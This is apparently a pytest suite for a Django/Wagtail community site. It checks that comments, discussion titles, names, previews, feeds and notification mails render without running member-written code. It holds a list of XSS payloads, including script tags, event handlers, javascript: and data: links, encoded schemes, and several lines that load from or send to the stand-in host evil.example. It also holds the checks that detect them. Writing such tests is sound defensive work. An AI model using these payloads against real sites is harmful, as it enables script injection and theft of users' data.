"""What members and guests write can do no harm on any page that shows it."""

from collections.abc import Iterable
from html.parser import HTMLParser
from itertools import product
from urllib.parse import urlsplit

import pytest
from defusedxml import ElementTree
from django.urls import reverse

from community.models import Comment, Discussion, Notification, Subject, User
from community.notice_mails import NOTICES_AT_MOST, Words, write_mail
from community.text import member_html
from community.unsubscribing import DIGEST
from tests.community.comment_steps import address, read, write_url
from tests.factories.community import CommentFactory, DiscussionFactory, UserFactory

ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.example><button>x</button></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "</textarea><script>alert(1)</script>",
    "</li></ol></section><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox)",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    '[x](https://a.example/"onmouseover=alert(1))',
    "[x](https://a.example 'x\" onmouseover=\"alert(1)')",
    "![x](https://evil.example/pixel.png)",
    '![x](x"onerror="alert(1))',
    "<javascript:alert(1)>",
    '<https://a.example/"onclick=alert(1)>',
    "{{ request.user.password }}{% debug %}",
    "\u202e<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
)
WRAPPINGS = ("{}", "*{}*", "> {}", "- {}", "[{}](https://a.example)", "word {} word")
PAYLOADS = [wrapping.format(attack) for attack, wrapping in product(ATTACKS, WRAPPINGS)]
# Each attack once, in all the ways in which it can be wrapped up, for what costs more to look at.
SOME = [WRAPPINGS[number % len(WRAPPINGS)].format(attack) for number, attack in enumerate(ATTACKS)]

SAFE_TAGS = {"p", "br", "em", "strong", "ul", "ol", "li", "blockquote", "a"}


class Markup(HTMLParser):
    """Collects the elements and attributes that a browser would make of a text."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def parse(html: str) -> Markup:
    markup = Markup()
    markup.feed(html)
    markup.close()
    return markup


def storable(payloads: Iterable[str]) -> list[str]:
    """Return payloads as a database keeps them: no form lets a NUL through, nor PostgreSQL."""
    return [payload.replace("\x00", "") for payload in payloads]


def test_the_corpus_is_as_large_as_promised():
    assert len(set(PAYLOADS)) >= 200


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_text_becomes_nothing_but_its_small_markup(payload):
    markup = parse(member_html(payload))

    assert markup.tags <= SAFE_TAGS
    for name, value in markup.attributes:
        assert name in {"href", "rel", "start"}
        assert name != "href" or urlsplit(value).scheme in {"", "http", "https", "mailto"}
        assert name != "rel" or value == "nofollow ugc noopener"


def tainted(payload: str) -> Discussion:
    """Return a discussion with an attack in its title, its words and all that its author says.

    Such names stand nowhere, since no form takes them, unless an old import has left them.
    """
    author = UserFactory()
    User.objects.filter(pk=author.pk).update(display_name=payload[:50], about=payload[:300])
    return DiscussionFactory(author=author, title=payload[:120], text=payload)


def check(html: str, where: str) -> Markup:
    """Fail where a browser would run or load anything that a member has written."""
    markup = parse(html)
    assert not {"iframe", "object", "base", "math"} & markup.tags, where
    # Wagtail's admin has words of its own for those without scripts.
    assert "noscript" not in markup.tags or where.startswith("/admin/"), where
    for name, value in markup.attributes:
        # Wagtail's admin has handlers of its own.
        assert not name.startswith("on") or "alert" not in value, (where, name, value)
        assert not value.strip().lower().startswith(("javascript:", "vbscript:")), (where, value)
    for code in ("<script>alert", "<img src=x", "<svg/onload", "<svg onload", "evil.example/x.js>"):
        assert code not in html, where
    return markup


def test_the_check_knows_an_attack_when_it_sees_one():
    for attack in ("<p onclick=alert(1)>", "<a href=' JavaScript:alert(1)'>", "<iframe src=x>"):
        with pytest.raises(AssertionError):
            check(attack, "a page")


@pytest.mark.django_db
def test_no_words_and_no_name_of_a_comment_run_on_a_page_or_in_the_queue(
    client, front, discussion: Discussion
):
    for payload in storable(PAYLOADS):
        CommentFactory(
            content_object=discussion, guest=True, comment=payload, user_name=payload[:50]
        )
    moderator = UserFactory(administrator=True)
    client.force_login(moderator)
    own = CommentFactory(content_object=discussion, user=moderator)
    attacked = Comment.objects.filter(user=None)

    queue = reverse("community_comment_modeladmin_index")
    pages = [f"{address(discussion)}?comments={number}" for number in range(1, 12)]
    pages += [f"{queue}?part=all&p={number}" for number in range(1, 8)]
    pages += [f"/en/community/comments/{own.pk}/{name}/" for name in ("own", "edit", "thread")]
    for page in pages:
        check(read(client, page), page)
    for comment in attacked[:: len(WRAPPINGS)]:
        for page in (
            reverse("community_comment_modeladmin_inspect", args=[comment.pk]),
            f"{write_url(discussion)}?reply={comment.pk}",
        ):
            check(read(client, page), page)


@pytest.mark.django_db
def test_a_preview_runs_nothing(client, discussion):
    client.force_login(UserFactory())
    for payload in PAYLOADS[::7]:
        check(
            client.post(write_url(discussion), {"text": payload, "preview": "1"}).content.decode(),
            payload,
        )


@pytest.mark.django_db
@pytest.mark.parametrize("start", range(0, len(PAYLOADS), NOTICES_AT_MOST))
def test_no_title_text_or_name_of_a_discussion_runs_anywhere(client, front, member, start):
    payloads = storable(PAYLOADS[start : start + NOTICES_AT_MOST])
    discussions = [tainted(payload) for payload in payloads]
    client.force_login(UserFactory(administrator=True))

    listed = reverse("wagtailsnippets_community_discussion:list")
    pages = [f"{front.url}?page={number}" for number in (1, 2)]
    pages += [listed, *(address(it) for it in discussions)]
    pages += [it.author.get_absolute_url() for it in discussions[:: len(WRAPPINGS) + 1]]
    for page in pages:
        check(read(client, page), page)
    for path in ("/en/community/feed/", "/en/community/feed/atom/"):
        check_feed(client.get(path).content)
    told = [
        Notification(recipient=member, subject=Subject.MEMBER, comment=it.opening)
        for it in discussions
    ]
    Notification.objects.bulk_create(told)
    check_mail(write_mail(member, told, DIGEST))
    for notification in told[:: len(WRAPPINGS) + 1]:
        check_mail(write_mail(member, [notification], Subject.MEMBER))


def check_mail(written: Words) -> None:
    """Fail where a mail holds more than its own markup and links to the portal."""
    markup = check(written.html, written.subject)
    assert not {"script", "img", "svg", "form", "details"} & markup.tags
    assert "\n" not in written.subject
    links = [value for name, value in markup.attributes if name == "href"]
    assert {urlsplit(link).scheme for link in links} <= {"http", "https"}
    assert not any("evil.example" in link for link in links)


def check_feed(content: bytes) -> None:
    """Fail where a feed has elements of its own, or its words more than their small markup."""
    feed = ElementTree.fromstring(content)
    assert {element.tag.rpartition("}")[2] for element in feed.iter()} <= {
        *("rss", "channel", "title", "link", "description", "language", "lastBuildDate"),
        *("item", "creator", "pubDate", "guid", "feed", "id", "updated", "author", "name"),
        *("entry", "published", "summary", "subtitle"),
    }
    told = [*feed.iter("description"), *feed.iter("{http://www.w3.org/2005/Atom}summary")]
    assert len(told) > 1
    for element in told:
        markup = parse(element.text)
        assert markup.tags <= SAFE_TAGS
        assert {name for name, _value in markup.attributes} <= {"href", "rel", "start"}
        for name, value in markup.attributes:
            assert name != "href" or urlsplit(value).scheme in {"", "https", "http", "mailto"}
